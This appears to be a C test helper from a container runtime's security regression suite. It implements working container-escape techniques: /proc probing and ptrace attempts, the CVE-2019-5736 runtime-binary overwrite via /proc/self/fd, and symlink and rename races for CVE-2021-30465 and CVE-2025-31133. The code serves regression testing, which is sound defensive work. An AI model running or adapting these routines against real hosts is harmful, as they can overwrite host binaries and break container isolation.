/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * attacker: the hostile program of the security regression suite
 * (tests/security).  It is linked statically so that it runs in the busybox
 * rootfs, and every test copies it into its container's rootfs.  It does what
 * a hostile root process inside a container would do to the runtime's
 * processes and binaries, and prints what it got as "key=value" lines; the
 * test scripts judge the outcome on the host.
 *
 *   attacker probe PID
 *       Try to reach the process PID (as the container sees it) the way
 *       CVE-2016-9962 and CVE-2019-5736 did: list /proc/PID/fd (with the
 *       link targets), read /proc/PID/environ (and report whether the
 *       canary variable CTR_SEC_CANARY appears in it), open /proc/PID/mem,
 *       open /proc/PID/exe for writing and as O_PATH, ptrace-attach
 *       (PTRACE_SEIZE, from a child that exits at once, which detaches).
 *       Lines: fd=, environ=, canary=, mem=, exe-write=, exe-path=,
 *       exe-link=, ptrace=; each value is "ok", an errno name, or data.
 *
 *   attacker hunt DIR SECONDS [SKIP...]
 *       CVE-2019-5736 as published: scan /proc for SECONDS (or until the
 *       file DIR/stop exists, plus 0.3 s), open /proc/N/exe O_PATH for
 *       every process whose executable is not a file of this container
 *       (its own executable and the SKIP paths are left alone), keep the
 *       fds, and as soon as the file is no longer busy (ETXTBSY) open it
 *       again through /proc/self/fd/M for writing and write a marker at
 *       offset 0.  Appends "caught pid=N link=L", "wrote link=L" and
 *       "write-failed link=L err=E" lines to DIR/hunt.log.
 *
 *   attacker plant DIR NAME TARGET SECONDS
 *       CVE-2025-31133: keep DIR/NAME a symlink to TARGET for SECONDS or
 *       until DIR/stop exists: whatever the runtime puts there (a device
 *       node) is replaced at once, atomically (symlink + rename).  Prints
 *       "plants=N".
 *
 *   attacker swap DIR A B SECONDS
 *       CVE-2021-30465: exchange DIR/A and DIR/B (renameat2
 *       RENAME_EXCHANGE) in a tight loop for SECONDS or until DIR/stop
 *       exists.  Prints "swaps=N".
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static const char *ename(int e)
{
	static char buf[32];
	switch (e) {
	case 0: return "ok";
	case EACCES: return "EACCES";
	case EPERM: return "EPERM";
	case ENOENT: return "ENOENT";
	case ESRCH: return "ESRCH";
	case ETXTBSY: return "ETXTBSY";
	case EROFS: return "EROFS";
	case EINVAL: return "EINVAL";
	case ELOOP: return "ELOOP";
	case EBUSY: return "EBUSY";
	case EXDEV: return "EXDEV";
	default:
		snprintf(buf, sizeof(buf), "E%d", e);
		return buf;
	}
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* ------------------------------------------------------------------ probe */

static int probe(const char *pid)
{
	char path[PATH_MAX], link[PATH_MAX];
	int fd;

	/* the fd table, with what each fd points at */
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	DIR *d = opendir(path);
	if (!d) {
		printf("fd=%s\n", ename(errno));
	} else {
		struct dirent *de;
		int listed = 0, err = 0;
		printf("fd=ok\n");
		while ((de = readdir(d))) {
			if (de->d_name[0] == '.')
				continue;
			char p2[PATH_MAX + 300];
			snprintf(p2, sizeof(p2), "%s/%s", path, de->d_name);
			ssize_t n = readlink(p2, link, sizeof(link) - 1);
			if (n < 0) {
				err = errno;
				continue;
			}
			link[n] = '\0';
			printf("fd-entry=%s %s\n", de->d_name, link);
			listed++;
		}
		closedir(d);
		printf("fd-listed=%d\n", listed);
		if (err)
			printf("fd-readlink=%s\n", ename(err));
	}

	/* the environment (the runtime's own, before execve) */
	snprintf(path, sizeof(path), "/proc/%s/environ", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		printf("environ=%s\ncanary=no\n", ename(errno));
	} else {
		static char env[1 << 16];
		ssize_t n = read(fd, env, sizeof(env) - 1);
		int e = errno;
		close(fd);
		if (n < 0) {
			printf("environ=%s\ncanary=no\n", ename(e));
		} else {
			env[n] = '\0';
			int canary = 0;
			for (ssize_t i = 0; i < n; i += (ssize_t)strlen(env + i) + 1)
				if (!strncmp(env + i, "CTR_SEC_CANARY=", 15))
					canary = 1;
			printf("environ=ok\ncanary=%s\n", canary ? "yes" : "no");
		}
	}

	/* the memory: opening it is the ptrace-attach check */
	snprintf(path, sizeof(path), "/proc/%s/mem", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	printf("mem=%s\n", ename(fd < 0 ? errno : 0));
	if (fd >= 0)
		close(fd);

	/* the executable, for writing (ETXTBSY: allowed but busy) and as O_PATH */
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	printf("exe-write=%s\n", ename(fd < 0 ? errno : 0));
	if (fd >= 0)
		close(fd); /* nothing is written: the hunt does that */
	fd = open(path, O_PATH | O_CLOEXEC);
	printf("exe-path=%s\n", ename(fd < 0 ? errno : 0));
	if (fd >= 0)
		close(fd);
	ssize_t n = readlink(path, link, sizeof(link) - 1);
	if (n >= 0) {
		link[n] = '\0';
		printf("exe-link=%s\n", link);
	} else {
		printf("exe-link=%s\n", ename(errno));
	}

	/* ptrace: a child seizes and exits (which detaches) */
	pid_t c = fork();
	if (c == 0) {
		long r = ptrace(PTRACE_SEIZE, (pid_t)atoi(pid), NULL, NULL);
		_exit(r < 0 ? (errno & 0xff) : 0);
	}
	int st = 0;
	if (c < 0 || waitpid(c, &st, 0) < 0 || !WIFEXITED(st))
		printf("ptrace=unknown\n");
	else
		printf("ptrace=%s\n", ename(WEXITSTATUS(st)));
	fflush(stdout);
	return 0;
}

/* ------------------------------------------------------------------- hunt */

struct held {
	int fd;
	pid_t pid;
	dev_t dev;
	ino_t ino;
	char link[256];
	int done;
};

static int same_file(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

static int hunt(const char *dir, double secs, char **skip, int nskip)
{
	char path[PATH_MAX];
	struct stat self, skips[16];
	struct held held[64];
	int nheld = 0, ns = 0;
	double end = now() + secs, stop_seen = 0;

	if (stat("/proc/self/exe", &self) < 0)
		return perror("stat /proc/self/exe"), 1;
	for (int i = 0; i < nskip && ns < 16; i++)
		if (stat(skip[i], &skips[ns]) == 0)
			ns++;
	snprintf(path, sizeof(path), "%s/hunt.log", dir);
	FILE *log = fopen(path, "a");
	if (!log)
		return perror(path), 1;
	setvbuf(log, NULL, _IOLBF, 0);
	fprintf(log, "hunting pid=%d\n", (int)getpid());
	char stopf[PATH_MAX];
	snprintf(stopf, sizeof(stopf), "%s/stop", dir);

	while (now() < end) {
		if (!stop_seen && access(stopf, F_OK) == 0)
			stop_seen = now();
		if (stop_seen && now() > stop_seen + 0.3)
			break;
		DIR *d = opendir("/proc");
		struct dirent *de;
		while (d && (de = readdir(d))) {
			if (de->d_name[0] < '1' || de->d_name[0] > '9')
				continue;
			pid_t pid = (pid_t)atoi(de->d_name);
			if (pid == getpid())
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			struct stat st;
			int keep = fstat(fd, &st) == 0 && !same_file(&st, &self) && nheld < 64;
			for (int i = 0; keep && i < ns; i++)
				if (same_file(&st, &skips[i]))
					keep = 0;
			for (int i = 0; keep && i < nheld; i++)
				if (held[i].dev == st.st_dev && held[i].ino == st.st_ino)
					keep = 0;
			if (!keep) {
				close(fd);
				continue;
			}
			struct held *h = &held[nheld++];
			h->fd = fd;
			h->pid = pid;
			h->dev = st.st_dev;
			h->ino = st.st_ino;
			h->done = 0;
			ssize_t n = readlink(path, h->link, sizeof(h->link) - 1);
			h->link[n < 0 ? 0 : n] = '\0';
			fprintf(log, "caught pid=%d link=%s\n", (int)pid, h->link);
		}
		if (d)
			closedir(d);
		/* the published second half: once nothing runs it, write through the fd */
		for (int i = 0; i < nheld; i++) {
			struct held *h = &held[i];
			if (h->done)
				continue;
			snprintf(path, sizeof(path), "/proc/self/fd/%d", h->fd);
			int w = open(path, O_WRONLY | O_CLOEXEC);
			if (w < 0 && errno == ETXTBSY)
				continue;
			h->done = 1;
			if (w < 0) {
				fprintf(log, "write-failed link=%s err=%s\n", h->link, ename(errno));
				continue;
			}
			static const char marker[] = "#!/bin/sh\necho CVE-2019-5736 overwrote the runtime\n";
			ssize_t k = pwrite(w, marker, sizeof(marker) - 1, 0);
			if (k == (ssize_t)sizeof(marker) - 1)
				fprintf(log, "wrote link=%s\n", h->link);
			else
				fprintf(log, "write-failed link=%s err=%s\n", h->link, ename(k < 0 ? errno : EIO));
			close(w);
		}
	}
	for (int i = 0; i < nheld; i++)
		if (!held[i].done)
			fprintf(log, "write-failed link=%s err=%s\n", held[i].link, "still-busy");
	fprintf(log, "hunt-done caught=%d\n", nheld);
	fclose(log);
	return 0;
}

/* ------------------------------------------------------------------- swap */

static int swap(const char *dir, const char *a, const char *b, double secs)
{
	char stopf[PATH_MAX];
	int dfd = open(dir, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (dfd < 0)
		return perror(dir), 1;
	snprintf(stopf, sizeof(stopf), "%s/stop", dir);
	double end = now() + secs;
	unsigned long swaps = 0;
	while (now() < end) {
		for (int i = 0; i < 1000; i++)
			if (syscall(SYS_renameat2, dfd, a, dfd, b, RENAME_EXCHANGE) == 0)
				swaps++;
		if (access(stopf, F_OK) == 0)
			break;
	}
	printf("swaps=%lu\n", swaps);
	return 0;
}

/* ------------------------------------------------------------------ plant */

static int plant(const char *dir, const char *name, const char *target, double secs)
{
	char stopf[PATH_MAX], tmp[PATH_MAX];
	int dfd = open(dir, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (dfd < 0)
		return perror(dir), 1;
	snprintf(stopf, sizeof(stopf), "%s/stop", dir);
	snprintf(tmp, sizeof(tmp), ".%s.plant", name);
	double end = now() + secs;
	unsigned long plants = 0;
	while (now() < end) {
		for (int i = 0; i < 100; i++) {
			struct stat st;
			if (fstatat(dfd, name, &st, AT_SYMLINK_NOFOLLOW) == 0 && S_ISLNK(st.st_mode))
				continue;
			(void)unlinkat(dfd, tmp, 0);
			if (symlinkat(target, dfd, tmp) == 0 && renameat(dfd, tmp, dfd, name) == 0)
				plants++;
		}
		if (access(stopf, F_OK) == 0)
			break;
	}
	printf("plants=%lu\n", plants);
	return 0;
}

int main(int argc, char **argv)
{
	signal(SIGPIPE, SIG_IGN);
	if (argc == 3 && !strcmp(argv[1], "probe"))
		return probe(argv[2]);
	if (argc >= 4 && !strcmp(argv[1], "hunt"))
		return hunt(argv[2], atof(argv[3]), argv + 4, argc - 4);
	if (argc == 6 && !strcmp(argv[1], "plant"))
		return plant(argv[2], argv[3], argv[4], atof(argv[5]));
	if (argc == 6 && !strcmp(argv[1], "swap"))
		return swap(argv[2], argv[3], argv[4], atof(argv[5]));
	fprintf(stderr, "usage: attacker probe PID | hunt DIR SECONDS [SKIP...] | plant DIR NAME TARGET SECONDS | "
			"swap DIR A B SECONDS\n");
	return 2;
}
